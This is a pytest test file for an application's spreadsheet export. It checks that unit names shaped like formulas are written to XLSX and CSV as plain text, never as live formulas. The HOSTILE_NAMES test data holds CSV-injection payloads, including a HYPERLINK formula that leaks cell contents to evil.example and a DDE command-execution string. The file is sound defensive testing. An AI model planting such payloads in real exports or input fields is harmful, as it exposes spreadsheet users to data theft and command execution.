"""Exports write what users typed as text, never as a formula (issue 9 §3): 12 units named like
formulas are imported, then the 公示 list (``plan export``) and the targets register (``plan
registers``) are written as XLSX and CSV. Not one XLSX cell is a formula; not one CSV cell begins
with ``= + - @``, a tab or a carriage return."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask import Flask
from openpyxl import load_workbook

from cases.core.db import command_session
from cases.core.exports import FORMULA_TRIGGERS, csv_cell, table_bytes
from cases.models import Authority
from cases.registry.unit_import import import_units
from tests.support.cli import as_user
from tests.support.district import YEAR, draw
from tests.support.sheets import code, csv_bytes, row
from tests.support.world import T0, World
from web.cli.plans import plan_group

pytestmark = pytest.mark.both_databases

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C notepad'!'A1'",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '+HYPERLINK("http://evil.example")',
    "-2-3",
    "@A1",
    '=SUM(A1:A9)*0+"单位"',
)


def import_hostile_units(world: World) -> None:
    rows = [
        row(
            n,
            name=name,
            kind="事业单位",
            key_unit="是",
            key_unit_reason=name,
            key_unit_since="2026-01-05",
        )  # fmt: skip
        for n, name in enumerate(HOSTILE_NAMES, start=900)
    ]
    with command_session(world.factory) as s:
        luquan = s.get(Authority, world.ids["luquan"])
        report = import_units(s, luquan, csv_bytes(rows), filename="units.csv", now=T0)
    assert (report.imported, report.errors) == (12, []), report.errors


def formula_cells(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]


def risky_csv_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet program could evaluate (a plain negative number is just a number)."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [
        cell
        for line in rows
        for cell in line
        if cell.startswith(FORMULA_TRIGGERS) and not re.fullmatch(r"-\d+(\.\d+)?", cell)
    ]


def all_text(data: bytes) -> str:
    book = load_workbook(io.BytesIO(data))
    return "\n".join(
        str(c.value) for s in book.worksheets for r in s.iter_rows() for c in r if c.value
    )


def test_the_shared_writer_keeps_formula_text_as_text() -> None:
    rows = [[name, 1, -1] for name in HOSTILE_NAMES]
    xlsx = table_bytes(["名称", "数", "负数"], rows, "xlsx")
    assert formula_cells(xlsx) == []
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    # as typed (XML carries a carriage return as a line feed)
    expected = [n.replace("\r", "\n") for n in HOSTILE_NAMES]
    assert [r[0].value for r in sheet.iter_rows(min_row=2)] == expected
    assert [r[2].value for r in sheet.iter_rows(min_row=2)] == [-1] * 12  # numbers stay numbers
    data = table_bytes(["名称", "数"], [[n, -1] for n in HOSTILE_NAMES], "csv")
    assert risky_csv_cells(data) == []
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in read[1:]] == ["'" + n for n in HOSTILE_NAMES]
    assert csv_cell("鹿泉区档案馆") == "鹿泉区档案馆" and csv_cell(-1) == -1


def test_control_characters_do_not_break_an_xlsx_export() -> None:
    data = table_bytes(["名称"], [["单位\x01名称"]], "xlsx")
    assert load_workbook(io.BytesIO(data)).worksheets[0]["A2"].value == "单位\ufffd名称"


def test_the_publication_list_and_the_registers_carry_no_formula(
    district: World, app: Flask, tmp_path: Path
) -> None:
    import_hostile_units(district)
    draw(district)  # key units are all drawn: every hostile name is on the list
    run = CliRunner()
    outputs: dict[str, bytes] = {}
    with app.app_context():
        for fmt in ("xlsx", "csv"):
            out = tmp_path / f"公示.{fmt}"
            result = as_user(
                app, district, "zhang", "export", str(YEAR), "--regime", "electronic",
                "--format", fmt, str(out), command=plan_group,
            )  # fmt: skip
            assert result.exit_code == 0, result.output
            outputs[f"publication.{fmt}"] = out.read_bytes()
            out = tmp_path / f"targets.{fmt}"
            result = run.invoke(
                plan_group,
                ["registers", "targets", "--regime", "electronic", "--format", fmt,
                 "--out", str(out), "--authority", "luquan"],
            )  # fmt: skip
            assert result.exit_code == 0, result.output
            outputs[f"targets.{fmt}"] = out.read_bytes()
    for name in ("publication.xlsx", "targets.xlsx"):
        assert formula_cells(outputs[name]) == [], name
        text = all_text(outputs[name])
        assert all(n.strip() in text for n in HOSTILE_NAMES), name  # there, as text
    for name in ("publication.csv", "targets.csv"):
        assert risky_csv_cells(outputs[name]) == [], name
        assert "'=HYPERLINK(" in outputs[name].decode("utf-8-sig"), name
    published = outputs["publication.csv"].decode("utf-8-sig")
    assert all(code(n) in published for n in range(900, 912))
